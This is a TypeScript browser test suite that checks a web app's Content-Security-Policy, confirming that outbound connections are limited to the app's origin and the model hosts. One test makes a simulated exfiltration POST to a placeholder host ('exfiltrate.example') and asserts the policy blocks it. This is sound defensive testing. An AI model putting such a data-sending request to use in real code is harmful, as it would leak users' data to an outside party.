import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext } from 'playwright-core';
import { CONTENT_SECURITY_POLICY, MODEL_HOSTS } from '../../scripts/content-security-policy.ts';
import { launchChromium } from './launch-chromium.ts';
import { serveBuiltApp, type BuiltApp } from './serve-built-app.ts';

// The policy that keeps data in the tab: only the app's origin, plus the catalogue's model hosts.
describe('Content-Security-Policy', () => {
  let app: BuiltApp;
  let browser: BrowserContext;

  beforeAll(async () => {
    app = await serveBuiltApp();
    browser = await launchChromium();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await app?.close();
  });

  it('allows connections only to the app and the model hosts', () => {
    const connect = CONTENT_SECURITY_POLICY.split('; ').find((d) => d.startsWith('connect-src'));
    expect(connect).toBe(`connect-src 'self' ${MODEL_HOSTS.join(' ')}`);
    expect(CONTENT_SECURITY_POLICY).toContain("default-src 'self'");
  });

  it('is in the built page and blocks a request to any other host before it leaves the browser', async () => {
    const page = await browser.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    const response = await page.goto(app.url);
    expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toBe(CONTENT_SECURITY_POLICY);
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.blockedURI));
      try {
        await fetch('https://exfiltrate.example/collect', { method: 'POST', body: 'row' });
        return { fetched: true, violations };
      } catch {
        await new Promise((r) => setTimeout(r, 50));
        return { fetched: false, violations };
      }
    });
    expect(outcome.fetched).toBe(false);
    // Reported once per policy in force (the header and the meta tag).
    expect(outcome.violations.length).toBeGreaterThan(0);
    expect(new Set(outcome.violations)).toEqual(new Set(['https://exfiltrate.example/collect']));
    expect(requests.filter((u) => u.includes('exfiltrate'))).toEqual([]);
  });
});
